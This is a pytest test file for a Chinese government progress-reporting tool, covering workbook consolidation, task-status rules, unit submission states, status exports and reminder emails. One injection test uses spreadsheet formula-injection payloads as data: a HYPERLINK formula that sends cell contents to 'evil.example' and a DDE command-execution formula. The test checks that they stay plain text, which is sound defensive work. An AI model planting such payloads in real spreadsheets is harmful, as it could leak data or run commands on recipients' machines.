"""Issue 5: the consolidated workbook, task-status rule, 报送情况, status and reminders."""

from __future__ import annotations

import datetime as dt
import email
import json
import re
import zipfile
from email import policy

import pytest
from conftest import drop, late, on_time, shanghai
from openpyxl import load_workbook

from toolkit.actions.collect import collect
from toolkit.actions.merge import merge
from toolkit.actions.received import answer_received
from toolkit.consolidate import consolidate
from toolkit.filling import Answer, Filling
from toolkit.master import Task
from toolkit.period import Period
from toolkit.report import Row
from toolkit.task_rule import task_status

SZ = "市政务服务数据管理局"
JUNE = Period(2022, 6)
ON = Answer(status="序时推进", progress=50, work="按计划推进。")
DONE = Answer(status="已完成", progress=100, work="已完成。", evidence="东政数〔2022〕8号")


# ---------------------------------------------------------------------------
# the rule, branch by branch


def _task(deadline=None, ongoing=False) -> Task:
    return Task("9.9", "一", "二", "名称", "内容", "2022年6月" if deadline else "长期开展", deadline, ongoing)


def _row(status: str, progress: int | None = None) -> Row:
    return Row("9.9", "牵头", status, progress, "进展", "", "", None, "")


DUE_LATER = _task(dt.date(2022, 12, 31))
DUE_NOW = _task(dt.date(2022, 6, 30))
LONG_TERM = _task(ongoing=True)


@pytest.mark.parametrize("task, leads, rows, expected", [
    (DUE_LATER, ["A", "B"], {}, "未报送"),                                            # no lead reported
    (DUE_LATER, ["A", "B"], {"A": _row("已完成"), "B": _row("已完成")}, "已完成"),     # all leads done
    (DUE_LATER, ["A", "B"], {"A": _row("已完成")}, "序时推进"),                       # one lead missing
    (DUE_NOW, ["A", "B"], {"A": _row("已完成"), "B": _row("已完成")}, "已完成"),       # done in time wins
    (DUE_LATER, ["A", "B"], {"A": _row("滞后"), "B": _row("已完成")}, "滞后"),         # any lead 滞后
    (DUE_NOW, ["A", "B"], {"A": _row("序时推进"), "B": _row("已完成")}, "滞后"),       # deadline passed unfinished
    (DUE_NOW, ["A", "B"], {"A": _row("未启动")}, "滞后"),                             # overdue beats 未启动
    (DUE_LATER, ["A", "B"], {"A": _row("未启动"), "B": _row("未启动")}, "未启动"),     # all reporting leads 未启动
    (DUE_LATER, ["A", "B"], {"A": _row("未启动"), "B": _row("序时推进")}, "序时推进"),
    (LONG_TERM, ["A"], {"A": _row("序时推进")}, "序时推进"),                          # 长期开展 never overdue
    (LONG_TERM, ["A"], {"A": _row("滞后")}, "滞后"),
    (LONG_TERM, ["A"], {"A": _row("已完成")}, "已完成"),
    (LONG_TERM, [], {}, "未报送"),                                                   # no lead at all (16.1)
])
def test_task_status_rule(task, leads, rows, expected):
    assert task_status(task, leads, rows, JUNE) == expected


# ---------------------------------------------------------------------------
# a month computed by hand


@pytest.fixture
def month(issued_ws, make_return):
    """市政数局 on time, 市公安局 late, 虎门镇 returned, 石龙镇 sends twice; 50 units missing."""
    sz = Filling(default=ON, answers={"1.1": DONE, "7.3": DONE,
                                      "2.2": Answer(status="滞后", progress=60, work="系统改造中", problems="供应商延期"),
                                      "3.3": Answer(status="未启动", progress=0, work="尚未开始，7月启动。")})
    drop(issued_ws, "市政数局.xlsx", make_return(SZ, sz), on_time())
    drop(issued_ws, "公安.xlsx", make_return("市公安局", Filling(default=ON)), late())
    drop(issued_ws, "虎门.xlsx", make_return("虎门镇", Filling(default=ON, answers={
        "1.2": Answer(status="滞后", problems="")})), on_time())
    drop(issued_ws, "石龙1.xlsx", make_return("石龙镇", Filling(default=ON)), on_time() - 86400)
    drop(issued_ws, "石龙2.xlsx", make_return("石龙镇", Filling(default=Answer(status="序时推进", progress=70,
                                                                                work="第二版"))), on_time())
    collect(issued_ws)
    # 市公安局 is late by its file's time alone: the office confirmed it (`duban received --confirm`, QA216)
    answer_received(issued_ws, Period(2022, 6), "市公安局", None)
    return issued_ws


def test_overview_figures_by_hand(month):
    result = merge(month, "2022-06")
    # by hand (see the fixture): 已完成 1.1 7.3; 滞后 1.2 2.2 2.3 3.1 3.2; 未启动 3.3;
    # 未报送 2.5 4.2 6.2 8.1 16.1; the other 30 序时推进. Overdue: 1.2 2.2 2.3 3.1 3.2.
    cons = result.consolidation
    status = {t.task.id: t.status for t in cons.tasks}
    assert [k for k, v in status.items() if v == "已完成"] == ["1.1", "7.3"]
    assert [k for k, v in status.items() if v == "滞后"] == ["1.2", "2.2", "2.3", "3.1", "3.2"]
    assert [k for k, v in status.items() if v == "未启动"] == ["3.3"]
    assert [k for k, v in status.items() if v == "未报送"] == ["2.5", "4.2", "6.2", "8.1", "16.1"]
    assert [t.task.id for t in cons.overdue] == ["1.2", "2.2", "2.3", "3.1", "3.2"]
    sheet = load_workbook(result.path)["总览"]
    cells = {r[0]: r[1:3] for r in sheet.iter_rows(values_only=True) if r and r[0]}
    assert cells["任务总数"] == (43, 1)
    assert cells["已完成"] == (2, round(2 / 43, 4))
    assert cells["序时推进"] == (30, round(30 / 43, 4))
    assert cells["滞后"] == (5, round(5 / 43, 4))
    assert cells["未启动"] == (1, round(1 / 43, 4))
    assert cells["未报送"] == (5, round(5 / 43, 4))
    assert cells["尚未报送"] == (50, round(50 / 54, 4))
    assert cells["超期未完成（完成时限已过）"] == (5, round(5 / 43, 4))
    assert cells["应报单位"] == (54, 1)
    assert cells["按时报送"] == (2, round(2 / 54, 4))
    assert cells["逾期报送"] == (1, round(1 / 54, 4))
    assert cells["退回待改"] == (1, round(1 / 54, 4))
    level1 = {r[0]: r[1:7] for r in sheet.iter_rows(values_only=True) if r and str(r[0]).startswith(("一、", "二、",
                                                                                                       "三、", "四、", "五、"))
              and isinstance(r[1], int)}
    # 一、: 1.1 done; 1.2 2.2 2.3 3.1 3.2 滞后; 3.3 未启动; 2.5 未报送; 2.1 2.4 2.6 序时推进
    assert level1["一、加强政务服务体系建设标准化"] == (1, 3, 5, 1, 1, 11)
    assert level1["五、加强政务人员队伍建设"] == (0, 2, 0, 0, 1, 3)


def test_units_sheet_states(month):
    result = merge(month, "2022-06")
    sheet = load_workbook(result.path)["报送情况"]
    header = [c.value for c in sheet[3]]
    assert header[:11] == ["单位", "类别", "应报任务数", "报送状态", "报送时间", "报送文件", "错误数", "警告数", "已完成数",
                           "滞后数", "平均进度(%)"]
    rows = {r[0]: r for r in sheet.iter_rows(min_row=4, values_only=True)}
    assert len(rows) == 54
    assert rows[SZ][3] == "按时报送" and rows[SZ][5] == "市政数局.xlsx" and rows[SZ][8] == 2 and rows[SZ][9] == 1
    assert rows["市公安局"][3] == "逾期报送" and rows["市公安局"][4] == "2022-07-08 09:30"
    assert rows["虎门镇"][3] == "退回待改" and rows["虎门镇"][6] == 1
    # 石龙2 corrected 石龙1: the time shown is 石龙1's, which decided 已报送, and says so
    assert rows["石龙镇"][3] == "按时报送" and rows["石龙镇"][5] == "石龙2.xlsx（报送时间为第一份合格报送“石龙1.xlsx”的时间）"
    assert sum(r[3] == "未报送" for r in rows.values()) == 50
    assert {r[3] for r in rows.values()} <= {"按时报送", "逾期报送", "未报送", "退回待改"}


def test_a_file_sent_again_under_its_name_says_its_time_is_the_first_sendings():
    from toolkit.consolidate import UnitStatus

    again = UnitStatus("石龙镇", "镇街", 3, "按时报送", "2022-07-01 09:00", "石龙.xlsx", timed_by="石龙.xlsx")
    assert again.file_text == "石龙.xlsx（再次报送；报送时间为第一份合格报送的时间）"
    assert UnitStatus("石龙镇", "镇街", 3, "按时报送", "2022-07-01 09:00", "石龙.xlsx").file_text == "石龙.xlsx"


def test_a_late_return_after_one_sent_back_is_not_called_the_first_sending(issued_ws, make_return,
                                                                           collecting_on):
    """石龙1 came on time and was sent back (退回); 石龙2 came late and was the first valid
    return, so it decides 逾期报送; 石龙3 corrected it. 报送文件 says whose time 报送时间 is,
    and must not call 石龙2 the unit's first sending: 石龙1 was, and the unit would be told
    its 7月4日 file never came."""
    wrong = Filling(default=ON, answers={t.id: Answer(status="已完成", progress=150)
                                         for t, _ in issued_ws.load_master().tasks_of("石龙镇")})
    collecting_on(dt.date(2022, 7, 4))  # the reply asked for the correction by 5 July
    drop(issued_ws, "石龙1.xlsx", make_return("石龙镇", wrong), on_time())
    collect(issued_ws)
    collecting_on(dt.date(2022, 7, 8))
    drop(issued_ws, "石龙2.xlsx", make_return("石龙镇", Filling(default=ON)), late())
    collect(issued_ws)
    drop(issued_ws, "石龙3.xlsx", make_return("石龙镇", Filling(default=DONE)), late() + 3600)
    collect(issued_ws)
    unit = next(u for u in consolidate(issued_ws, JUNE).units if u.unit == "石龙镇")
    assert (unit.state, unit.received_at, unit.file, unit.timed_by) == (
        "逾期报送", "2022-07-08 09:30", "石龙3.xlsx", "石龙2.xlsx")
    assert "首次报送" not in unit.file_text, unit.file_text
    assert unit.file_text == "石龙3.xlsx（报送时间为第一份合格报送“石龙2.xlsx”的时间）"


def test_status_json_and_csv_say_whose_time_is_shown_as_the_units_sheet_does(run, month):
    """石龙2 corrected 石龙1, whose time decided 已报送: `duban status --format json/csv`, the
    Excel console and 报送情况 put the same 报送文件 beside the same 报送时间."""
    from toolkit.actions.excel_console import status_table

    sheet = load_workbook(merge(month, "2022-06").path)["报送情况"]
    in_sheet = next(r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] == "石龙镇")[4:6]
    console = next(r for r in status_table(month, JUNE) if r[0] == "石龙镇")[4:6]
    as_json = next(u for u in json.loads(run(["status", "--format", "json"], cwd=month.root).stdout)["units"]
                   if u["单位"] == "石龙镇")
    as_csv = next(line for line in run(["status", "--format", "csv"], cwd=month.root).stdout.splitlines()
                  if line.startswith("石龙镇,"))
    assert tuple(in_sheet) == tuple(console) == (as_json["报送时间"], as_json["报送文件"])
    assert as_csv.split(",")[4:6] == list(in_sheet)


def test_task_sheet_columns_and_texts(month):
    result = merge(month, "2022-06")
    sheet = load_workbook(result.path)["任务汇总"]
    header = [c.value for c in sheet[3]]
    assert header == ["任务编号", "一级任务", "二级任务", "工作任务", "完成时限", "牵头单位", "配合单位", "综合状态",
                      "平均进度(%)", "是否超期", "各单位进展", "存在问题", "未报送单位"]
    rows = {r[0]: r for r in sheet.iter_rows(min_row=4, values_only=True)}
    assert rows["2.2"][7] == "滞后" and rows["2.2"][9] == "是" and rows["2.2"][11] == f"【{SZ}】供应商延期"
    assert rows["2.4"][9] == "长期"
    assert rows["5.3"][10] == "【石龙镇】第二版" and rows["5.3"][8] == 70
    assert "虎门镇" in rows["5.3"][12] and "石龙镇" not in rows["5.3"][12]
    assert rows["1.2"][5] == f"{SZ}、各镇街（园区）"


def test_details_lagging_issues_history_receipts(month):
    result = merge(month, "2022-06")
    wb = load_workbook(result.path)
    assert wb.sheetnames == ["总览", "任务汇总", "单位明细", "报送情况", "滞后超期", "校验问题", "历次进展", "收件登记"]
    details = list(wb["单位明细"].iter_rows(min_row=4, values_only=True))
    master = month.load_master()
    assert len(details) == len(master.assignments)
    assert [c.value for c in wb["单位明细"][3]][-2:] == ["报送文件", "报送时间"]
    lagging = [r[0] for r in wb["滞后超期"].iter_rows(min_row=4, values_only=True)]
    assert lagging == ["1.2", "2.2", "2.3", "3.1", "3.2"]
    issues = list(wb["校验问题"].iter_rows(min_row=4, values_only=True))
    assert [c.value for c in wb["校验问题"][3]][:7] == ["单位", "文件", "工作表", "单元格", "代码", "级别", "说明"]
    assert ("虎门镇", "虎门.xlsx", "进展填报", "K5", "E603", "错误") in [r[:6] for r in issues]
    assert any(r[4] == "W205" and r[1] == "石龙1.xlsx" for r in issues)
    receipts = list(wb["收件登记"].iter_rows(min_row=4, values_only=True))
    assert [c.value for c in wb["收件登记"][3]][:8] == [
        "序号", "原文件名", "来源", "报送时间", "时间依据", "单位", "单位依据", "结果"]
    assert {r[1]: r[7] for r in receipts} == {"市政数局.xlsx": "采纳", "公安.xlsx": "采纳", "虎门.xlsx": "退回",
                                             "石龙1.xlsx": "已被替代", "石龙2.xlsx": "采纳"}
    assert all(re.fullmatch(r"[0-9a-f]{64}", r[11]) for r in receipts)
    history_header = [c.value for c in wb["历次进展"][3]]
    assert history_header == ["任务编号", "工作任务", "2022年6月\n状态", "2022年6月\n进度"]


def test_history_has_every_period(month, make_return):
    from toolkit.actions.issue import issue_returns
    from toolkit.filling import fill_return

    path = issue_returns(month, "2022-05", units=[SZ]).files[0]
    drop(month, "5月.xlsx", fill_return(path, Filling(default=Answer(status="序时推进", progress=20, work="启动"))),
         shanghai(dt.datetime(2022, 6, 2)))
    collect(month)
    wb = load_workbook(merge(month, "2022-06").path)
    sheet = wb["历次进展"]
    assert [c.value for c in sheet[3]][2:] == ["2022年5月\n状态", "2022年5月\n进度", "2022年6月\n状态", "2022年6月\n进度"]
    row = next(r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] == "2.2")
    assert row[2:] == ("滞后", 20, "滞后", 60)


def test_rerun_gives_the_same_cell_values(month):
    def values(path):
        wb = load_workbook(path)
        return {ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in wb}

    first = values(merge(month, "2022-06").path)
    second = values(merge(month, "2022-06").path)
    assert first == second


def test_injection_stays_text(issued_ws, make_return):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2-2", "@SUM(A1:A9)",
               '=cmd|" /C calc"!A0', "_x0007_响铃_x001B_字符"]  # how xlsx stores control characters
    answers = {f"{t}": Answer(status="序时推进", progress=10, work=text, problems=text)
               for t, text in zip(["4.3", "5.1", "5.2", "5.3", "6.1", "6.3"], hostile)}
    drop(issued_ws, "石龙镇.xlsx", make_return("石龙镇", Filling(answers={"1.2": DONE, **answers})), on_time())
    collect(issued_ws)
    path = merge(issued_ws, "2022-06").path
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    sheet = load_workbook(path)["单位明细"]
    works = {r[8] for r in sheet.iter_rows(min_row=4, values_only=True) if r[4] == "石龙镇"}
    for text in hostile[:5]:
        assert text in works
    assert "响铃字符" in works  # control characters removed


def test_charts_reference_the_right_ranges(month):
    path = merge(month, "2022-06").path
    wb = load_workbook(path)
    sheet = wb["总览"]
    rows = {r[0].value: r[0].row for r in sheet.iter_rows() if r[0].value}
    with zipfile.ZipFile(path) as z:
        charts = [z.read(n).decode("utf-8") for n in sorted(z.namelist()) if n.startswith("xl/charts/chart")]
    assert len(charts) == 4  # the per-unit chart: one a printed page of 四's 54 units (QA392)
    charts.sort(key=lambda c: "各单位" in c)  # sorted by name, chart10 came before chart2
    refs = [re.findall(r"<(?:c:)?f>([^<]+)</(?:c:)?f>", c) for c in charts]
    pie = refs[0]
    assert f"'总览'!$B${rows['已完成']}:$B${rows['未报送']}" in pie
    assert f"'总览'!$A${rows['已完成']}:$A${rows['未报送']}" in pie
    first_level, last_level = rows["一、加强政务服务体系建设标准化"], rows["五、加强政务人员队伍建设"]
    assert f"'总览'!$A${first_level}:$A${last_level}" in refs[1]
    assert f"'总览'!$B${first_level}:$B${last_level}" in refs[1]
    assert f"'总览'!$F${first_level}:$F${last_level}" in refs[1]
    half = rows[SZ] + 26  # 27 units a page
    assert f"'总览'!$A${rows[SZ]}:$A${half}" in refs[2] and f"'总览'!$E${rows[SZ]}:$E${half}" in refs[2]
    assert f"'总览'!$A${half + 1}:$A${rows['松山湖高新区']}" in refs[3]
    assert f"'总览'!$E${half + 1}:$E${rows['松山湖高新区']}" in refs[3]
    assert re.search(r"<(c:)?grouping val=\"stacked\"/>", charts[1])


def test_a_month_of_a_thousand_units_has_no_unit_chart(month):
    """四's bar chart is drawn up to `UNIT_CHART_MAX` units: 1,000 bars made a chart 442 cm
    tall (QA177); the table stands alone then. At the limit it is still drawn."""
    import dataclasses

    from toolkit.style import load_style
    from toolkit.summary_book import build_summary_workbook
    from toolkit.summary_charts import UNIT_CHART_MAX

    cons = consolidate(month, Period.parse("2022-06"))
    base = cons.units[0]

    def charts(n: int) -> list[str]:
        units = [dataclasses.replace(base, unit=f"第{i}村") for i in range(n)]
        book = build_summary_workbook(dataclasses.replace(cons, units=units), load_style())
        return [c.xml for sheet in book.sheets for c in sheet.charts]

    drawn = charts(UNIT_CHART_MAX)
    # one per printed page of 四 (`summary_charts.unit_pages`)
    assert len(drawn) > 3 and all("各单位平均完成进度" in c for c in drawn[2:])
    assert len(charts(UNIT_CHART_MAX + 1)) == 2
    assert not any("各单位平均完成进度" in c for c in charts(1000))


def test_layout(month):
    wb = load_workbook(merge(month, "2022-06").path)
    for ws in wb:
        assert ws.page_setup.orientation == "landscape"
        assert str(ws.page_setup.paperSize) == "9"
        if ws.title != "总览":
            assert ws.freeze_panes in ("A4", "B4")
            assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A3:")
            assert ws.print_title_rows == "$3:$3"
            assert (ws["A1"].font.b and "（2022年6月）" in ws["A1"].value) or ws.title == "历次进展"
            assert ws["A4"].font.name in ("宋体", "仿宋")
    rules = wb["任务汇总"].conditional_formatting
    formulas = {r.formula[0] for cf in rules for r in cf.rules}
    assert {'"已完成"', '"滞后"', '"未报送"'} <= formulas


@pytest.mark.libreoffice
def test_libreoffice_opens_it(lo, month, tmp_path):
    path = merge(month, "2022-06").path
    pdf = lo(path, "pdf", tmp_path / "pdf")
    assert pdf.stat().st_size > 10000
    back = lo(path, "xlsx:Calc MS Excel 2007 XML", tmp_path / "back")
    wb = load_workbook(back)
    assert wb.sheetnames == ["总览", "任务汇总", "单位明细", "报送情况", "滞后超期", "校验问题", "历次进展", "收件登记"]
    with zipfile.ZipFile(back) as z:
        assert len([n for n in z.namelist() if n.startswith("xl/charts/chart")]) == 4


def test_locked_target_keeps_the_old_file(run, month):
    first = run(["merge"], cwd=month.root)
    assert first.exit_code == 0
    path = month.root / "汇总" / "2022年6月" / "2022年6月_进展汇总表.xlsx"
    assert first.stdout.splitlines()[-1] == f"汇总表：{path}"
    before = path.read_bytes()
    lock = path.with_name("~$" + path.name)
    lock.write_bytes(b"x")
    again = run(["merge"], cwd=month.root)
    assert again.exit_code == 2
    assert again.stderr == f"错误：“{path.name}”正被 Excel/WPS 打开，请先关闭该文件再运行。\n"
    assert path.read_bytes() == before
    assert not list(path.parent.glob(".~duban-*"))


def test_merge_before_any_collect(run, issued_ws, collecting_on):
    ws = issued_ws
    collecting_on(dt.date(2022, 7, 3))  # before the forms' deadline, 5 July
    result = run(["merge"], cwd=ws.root)
    assert result.exit_code == 1
    assert result.stderr == ("提示：2022年6月还没有收取到任何报送（本工作区还没有收取过报送），没有可汇总的内容，汇总表未生成。"
                             "请先把报送文件放进“收件箱”文件夹，运行 duban collect（或双击“2-收取并汇总”）。"
                             "报送截止日为7月5日；截止后仍无人报送，可再运行 duban merge（或双击“2-收取并汇总”），"
                             "生成各单位均未报送的汇总表。\n")
    memo = run(["memo"], cwd=ws.root)
    assert memo.exit_code == 1
    assert memo.stderr.startswith("提示：2022年6月还没有收取到任何报送（本工作区还没有收取过报送），没有可写进通报的进展，通报未生成。")
    assert "可再运行 duban memo（或双击“3-生成通报”），生成各单位均未报送的通报。" in memo.stderr


def test_a_first_month_nobody_reported_is_reported_once_past_its_deadline(run, issued_ws, collecting_on):
    """A new plan's first month in which no unit sent anything: past the deadline its 汇总表
    and 通报 say every unit 未报送, as a later month's do; `duban run` (an empty inbox may be
    the office's slip) refuses and points to them."""
    ws = issued_ws
    collecting_on(dt.date(2022, 7, 6))
    refused = run(["run"], cwd=ws.root)
    assert refused.exit_code == 1
    assert refused.stderr == ("提示：收件箱是空的，2022年6月还没有收到任何报送。请把报送的文件、邮件或压缩包放进“收件箱”"
                              "文件夹后再运行。报送截止日（7月5日）已过：核实确实无人报送后，可运行 duban merge 和 duban memo"
                              "（或双击“2-收取并汇总”和“3-生成通报”），"
                              "生成各单位均未报送的汇总表和通报。\n")
    merged = run(["merge"], cwd=ws.root)
    assert merged.exit_code == 0, merged.output
    assert "未报送 54" in merged.stdout
    sheet = load_workbook(ws.root / "汇总" / "2022年6月" / "2022年6月_进展汇总表.xlsx")["报送情况"]
    states = [row[3] for row in sheet.iter_rows(min_row=4, values_only=True)]
    assert len(states) == 54 and set(states) == {"未报送"}
    memo = run(["memo", "--format", "md"], cwd=ws.root)
    assert memo.exit_code in (0, 1), memo.output
    text = next((ws.root / "通报" / "2022年6月").glob("*.md")).read_text(encoding="utf-8")
    assert "均未报送" in text


# ---------------------------------------------------------------------------
# a realistic month over every unit


def test_real_month_every_unit(issued_ws, make_return):
    master = issued_ws.load_master()
    units = master.units_with_tasks()
    expected = {}
    for i, unit in enumerate(units):
        kind = i % 9
        bad = Filling(default=Answer(status="滞后", problems=""))
        good = Filling(default=ON, answers={t.id: DONE for t, _ in master.tasks_of(unit)
                                            if t.due_by(JUNE.end)})
        if kind in (0, 1, 2, 3):
            drop(issued_ws, f"{i}.xlsx", make_return(unit, good), on_time())
            expected[unit] = "按时报送"
        elif kind == 4:
            drop(issued_ws, f"{i}.xlsx", make_return(unit, good), late())
            expected[unit] = "逾期报送"
        elif kind == 5:
            drop(issued_ws, f"{i}.xlsx", make_return(unit, bad), on_time())
            expected[unit] = "退回待改"
        elif kind == 6:  # returned, then fixed after the deadline
            drop(issued_ws, f"{i}a.xlsx", make_return(unit, bad), on_time())
            drop(issued_ws, f"{i}b.xlsx", make_return(unit, good), late())
            expected[unit] = "逾期报送"
        elif kind == 7:  # sent twice on time
            drop(issued_ws, f"{i}a.xlsx", make_return(unit, good), on_time() - 3600)
            drop(issued_ws, f"{i}b.xlsx", make_return(unit, good), on_time())
            expected[unit] = "按时报送"
        else:
            expected[unit] = "未报送"
    collect(issued_ws)
    cons = merge(issued_ws, "2022-06").consolidation
    assert {u.unit: u.state for u in cons.units} == expected
    counts = cons.unit_counts()
    assert counts == {s: list(expected.values()).count(s) for s in ("按时报送", "逾期报送", "未报送", "退回待改", "本期免报")}


# ---------------------------------------------------------------------------
# status and remind


def test_status_formats(run, month):
    table = run(["status"], cwd=month.root)
    assert table.exit_code == 0
    lines = table.stdout.splitlines()
    assert lines[0] == "2022年6月报送情况（截止 2022-07-05）：应报 54，按时报送 2，逾期报送 1，未报送 50，退回待改 1"
    assert "  逾期报送 市公安局" + " " * 14 + "2022-07-08 09:30" in lines
    assert not any(SZ in line for line in lines)  # on time units only with --all
    assert any(SZ in line for line in run(["status", "--all"], cwd=month.root).stdout.splitlines())
    data = json.loads(run(["status", "--format", "json"], cwd=month.root).stdout)
    # every state's count, 0 included: a script reads the same keys every month
    assert data["counts"] == {"按时报送": 2, "逾期报送": 1, "未报送": 50, "退回待改": 1, "本期免报": 0}
    assert len(data["units"]) == 54
    csv_lines = run(["status", "--format", "csv"], cwd=month.root).stdout.splitlines()
    assert csv_lines[0] == "单位,类别,应报任务数,报送状态,报送时间,报送文件,错误数,警告数,已完成数,滞后数"
    assert len(csv_lines) == 55



def test_status_written_to_a_file_opens_in_excel(run, month, tmp_path):
    """-o writes what --format prints; a CSV gets the BOM and CRLF lines Excel on Windows needs
    to show Chinese unit names, instead of reading the bytes as GBK."""
    printed = run(["status", "--format", "csv"], cwd=month.root).stdout
    target = tmp_path / "报送情况.csv"
    done = run(["status", "-o", str(target)], cwd=month.root)
    said, *told = done.stdout.splitlines()  # then the office's answers (市公安局's file time, confirmed)
    assert (done.exit_code, said) == (0, f"2022年6月报送情况已写入：{target}")
    assert [t[:22] for t in told] == ["已核实：市公安局 2022年6月的“公安.x"]
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf\xe5\x8d\x95\xe4\xbd\x8d,")  # BOM, then 单位
    assert data.decode("utf-8-sig").split("\r\n") == printed.split("\n")
    as_json = tmp_path / "报送情况.json"
    assert run(["status", "-o", str(as_json)], cwd=month.root).exit_code == 0
    assert json.loads(as_json.read_text(encoding="utf-8")) == json.loads(
        run(["status", "--format", "json"], cwd=month.root).stdout)
    wrong = run(["status", "-o", str(tmp_path / "报送情况.txt")], cwd=month.root)
    assert wrong.exit_code == 2 and "文件名请以 .csv 或 .json 结尾" in wrong.stderr
    assert not (tmp_path / "报送情况.txt").exists()


def test_remind_drafts(run, month):
    result = run(["remind", "--attach"], cwd=month.root)
    assert result.exit_code == 0
    folder = month.root / "汇总" / "2022年6月" / "催报邮件"
    assert result.stdout.splitlines()[0] == f"2022年6月：已为 51 个单位写好催报邮件草稿：{folder}"
    msg = email.message_from_bytes((folder / "催报_虎门镇.eml").read_bytes(), policy=policy.default)
    body = msg.get_body(("plain",)).get_content()
    assert "经校验存在错误" in body and "1.2（牵头）对标对表提升整改" in body
    # 虎门镇 was asked to fix its return: it gets that file back with the errors marked (the
    # reply's workbook), not a blank form to fill in again
    marked = [a.get_filename() for a in msg.iter_attachments()]
    assert marked == ["虎门镇_校验反馈.xlsx"] and "有误的单元格已标红" in body and "空白填报表" not in body
    [reply] = (month.root / "反馈" / "2022年6月").glob("*/虎门镇_校验反馈.xlsx")
    assert next(msg.iter_attachments()).get_content() == reply.read_bytes()
    missing = email.message_from_bytes((folder / "催报_市民政局.eml").read_bytes(), policy=policy.default)
    text = missing.get_body(("plain",)).get_content()
    assert "尚未收到" in text and "2022年7月5日" in text
    assert [a.get_filename() for a in missing.iter_attachments()] == ["2022年6月_市民政局_进展填报表.xlsx"]
    assert not (folder / "催报_石龙镇.eml").exists()


def test_row_writer_raises_the_writers_failure_and_stops():
    """Rows are compressed and written on a second thread: its failure (a full disk) is
    raised in the caller, the rows stop being built, and the thread ends."""
    import errno
    import threading

    from toolkit import xlsx_book

    written: list[bytes] = []

    class Full:
        def write(self, chunk: bytes) -> None:
            if written:
                raise OSError(errno.ENOSPC, "No space left on device")
            written.append(chunk)

    built = [0]

    def rows():
        for i in range(100_000):
            built[0] += 1
            yield f'<row r="{i}">' + "x" * 100 + "</row>"

    with pytest.raises(OSError) as caught:
        xlsx_book.write_rows(Full(), rows())
    assert caught.value.errno == errno.ENOSPC and len(written) == 1
    assert built[0] < 100_000
    assert not [t for t in threading.enumerate() if t.name == "duban-zip-writer"]


def test_row_writer_is_done_before_a_ctrl_c_leaves_it():
    """A Ctrl-C while rows are built or handed over is raised only once the writer thread has
    stopped: the zip it writes into is never closed under it."""
    import _thread
    import signal
    import threading
    import time

    from toolkit import xlsx_book

    writes: list[int] = []

    class Slow:
        def write(self, chunk: bytes) -> None:
            if not writes:
                _thread.interrupt_main()  # as Ctrl-C would, while the main thread is busy
            time.sleep(0.05)
            writes.append(len(chunk))

    rows = (f'<row r="{i}">' + "x" * 1000 + "</row>" for i in range(5000))
    # A run started in the background (nohup ... &) inherits SIGINT ignored, and interrupt_main
    # then does nothing (see tests/faults.py): Ctrl-C at Python's default, as in a terminal.
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        with pytest.raises(KeyboardInterrupt):
            xlsx_book.write_rows(Slow(), rows)
    finally:
        signal.signal(signal.SIGINT, previous)
    assert writes and not [t for t in threading.enumerate() if t.name == "duban-zip-writer"]


def test_a_unit_sent_back_is_never_listed_as_unreported(month):
    """虎门镇's only return was sent back: 报送情况 says 退回待改, and so must every sheet row that
    names it; a coordinator reading 任务汇总 or 滞后超期 would otherwise call it 未报送."""
    result = merge(month, "2022-06")
    cons = result.consolidation
    mine = [t for t in cons.tasks if "虎门镇" in t.leads + t.coops]
    assert mine and all("虎门镇" not in t.missing and "虎门镇" in t.sent_back for t in mine)
    assert all(t.lead_states["虎门镇"] == "退回待改" for t in mine if "虎门镇" in t.leads)
    book = load_workbook(result.path)
    tasks = {r[0]: r for r in book["任务汇总"].iter_rows(min_row=4, values_only=True)}
    for t in mine:
        cell = tasks[t.task.id][12]
        assert "退回待改：虎门镇" in cell and "虎门镇" not in cell.split("退回待改：")[0], cell
    details = [r for r in book["单位明细"].iter_rows(min_row=4, values_only=True) if r[4] == "虎门镇"]
    assert details and {r[6] for r in details} == {"退回待改"}
    lagging = [r[7] for r in book["滞后超期"].iter_rows(min_row=4, values_only=True) if r[7] and "虎门镇" in r[7]]
    # named among the leads 退回待改 (`task_summary.lead_states_text`), one by one or on that word's line
    assert lagging and all("虎门镇：退回待改" in cell or any(line.startswith("退回待改") and "虎门镇" in line
                                                         for line in cell.split("\n")) for cell in lagging)
    # the units that sent nothing are still listed as such
    assert any("市民政局" in (tasks[t.task.id][12] or "") for t in cons.tasks if "市民政局" in t.leads)


def test_units_alone_agree_with_the_whole_consolidation(month):
    """`duban status` and the reminders compute the units' states without the tasks and
    history (`consolidate(tasks=False)`): the same states, dues and not-issued list."""
    whole, units = consolidate(month, "2022-06"), consolidate(month, "2022-06", tasks=False)
    assert units.units == whole.units and units.due == whole.due and units.not_issued == whole.not_issued
    assert units.unit_counts() == whole.unit_counts()
    assert units.tasks == [] and units.history == {} and units.issues == []
